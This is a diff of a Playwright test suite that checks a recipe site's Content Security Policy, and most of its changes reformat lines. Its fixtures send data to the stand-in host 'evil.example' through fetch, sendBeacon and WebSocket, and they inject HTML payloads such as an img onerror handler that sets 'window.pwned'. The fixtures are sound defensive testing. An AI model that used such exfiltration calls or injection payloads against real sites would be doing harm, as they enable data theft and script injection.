@@ -9,16 +9,13 @@ import { build } from '../support/site'
 const FOREIGN = 'https://evil.example'
 
 /** What the browser refused by the page's policy so far: directives. */
-const refused = (page: Page) =>
-  page.evaluate<string[]>(() => Reflect.get(window, 'refused') ?? ['nobody watches'])
+const refused = (page: Page) => page.evaluate<string[]>(() => Reflect.get(window, 'refused') ?? ['nobody watches'])
 
 test.beforeEach(async ({ page }) => {
   await page.addInitScript(() => {
     const refused: string[] = []
     Object.assign(window, { refused })
-    addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
-      refused.push(effectiveDirective),
-    )
+    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => refused.push(effectiveDirective))
   })
 })
 
@@ -35,16 +32,8 @@ async function getRecipeAndDownload(page: Page) {
   await file
 }
 
-test('a recipe from a model violates no directive of the policy', async ({
-  page,
-  modelSite,
-  service,
-}) => {
-  service.play(
-    reply(
-      '# Pancakes &amp; cr&egrave;me\n\n- &frac12; egg\n- [flour](https://mill.example/)\n\n1. Whisk.',
-    ),
-  )
+test('a recipe from a model violates no directive of the policy', async ({ page, modelSite, service }) => {
+  service.play(reply('# Pancakes &amp; cr&egrave;me\n\n- &frac12; egg\n- [flour](https://mill.example/)\n\n1. Whisk.'))
   await page.goto(modelSite.url)
   await getRecipeAndDownload(page)
   await expect(ui(page).text).toContainText('Pancakes & crème')
@@ -52,10 +41,7 @@ test('a recipe from a model violates no directive of the policy', async ({
   expect(await refused(page)).toEqual([])
 })
 
-test('a recipe from the cookbook violates no directive of the policy', async ({
-  page,
-  cookbookSite,
-}) => {
+test('a recipe from the cookbook violates no directive of the policy', async ({ page, cookbookSite }) => {
   await page.goto(cookbookSite.url)
   await getRecipeAndDownload(page)
   expect(await refused(page)).toEqual([])
@@ -121,10 +107,7 @@ const attempts: Record<string, [directive: string, attempt: (foreign: string) =>
   'a foreign font': ['font-src', (foreign) => new FontFace('x', `url(${foreign}/x.woff2)`).load()],
   'a foreign connection': ['connect-src', (foreign) => fetch(`${foreign}/?list=eggs`)],
   'a foreign beacon': ['connect-src', (foreign) => navigator.sendBeacon(`${foreign}/`, 'eggs')],
-  'a foreign socket': [
-    'connect-src',
-    (foreign) => new WebSocket(`${foreign.replace('https', 'wss')}/`),
-  ],
+  'a foreign socket': ['connect-src', (foreign) => new WebSocket(`${foreign.replace('https', 'wss')}/`)],
   'a form with a foreign action': [
     'form-action',
     (foreign) => {
@@ -148,10 +131,7 @@ const attempts: Record<string, [directive: string, attempt: (foreign: string) =>
       document.createElement('div').innerHTML = '<img src=x onerror="window.pwned = 1">'
     },
   ],
-  'a string as a document': [
-    'require-trusted-types-for',
-    () => document.write('<p onclick="window.pwned = 1">'),
-  ],
+  'a string as a document': ['require-trusted-types-for', () => document.write('<p onclick="window.pwned = 1">')],
   'a new Trusted Types policy': [
     'trusted-types',
     () => {
@@ -173,11 +153,7 @@ for (const [what, [directive, attempt]] of Object.entries(attempts))
     expect(log.console.splice(0).join('\n')).toMatch(/policy|TrustedHTML|Trusted/i)
   })
 
-test('the policy blocks scripts, styles and frames in the HTML itself', async ({
-  page,
-  modelSite,
-  log,
-}) => {
+test('the policy blocks scripts, styles and frames in the HTML itself', async ({ page, modelSite, log }) => {
   const foreign: string[] = []
   await page.route(`${FOREIGN}/**`, (route) => {
     foreign.push(route.request().url())
@@ -202,16 +178,7 @@ test('the policy blocks scripts, styles and frames in the HTML itself', async ({
   await expect(ui(page).add).toBeEnabled()
   await expect
     .poll(async () => new Set(await refused(page)))
-    .toEqual(
-      new Set([
-        'script-src-elem',
-        'script-src-attr',
-        'img-src',
-        'frame-src',
-        'object-src',
-        'style-src-attr',
-      ]),
-    )
+    .toEqual(new Set(['script-src-elem', 'script-src-attr', 'img-src', 'frame-src', 'object-src', 'style-src-attr']))
   expect((await refused(page)).filter((each) => each === 'script-src-elem')).toHaveLength(3)
   expect(await page.evaluate(() => Reflect.get(window, 'pwned'))).toBeUndefined()
   expect(foreign).toEqual([])
@@ -225,9 +192,7 @@ test('connect-src names only the page and its service', async () => {
     return /connect-src ([^;]*)/.exec(html)?.[1]
   }
   expect(await connect({})).toBe("'self'")
-  expect(await connect({ VITE_HF_ACCESS_TOKEN: TOKEN })).toBe(
-    "'self' https://router.huggingface.co",
-  )
+  expect(await connect({ VITE_HF_ACCESS_TOKEN: TOKEN })).toBe("'self' https://router.huggingface.co")
   expect(await connect({ VITE_INFERENCE_URL: '/v1' })).toBe("'self'")
   expect(await connect({ VITE_INFERENCE_URL: '//models.example/v1' })).toBe("'self' models.example")
   expect(await connect({ VITE_INFERENCE_URL: 'https://models.example:8443/base/v1' })).toBe(
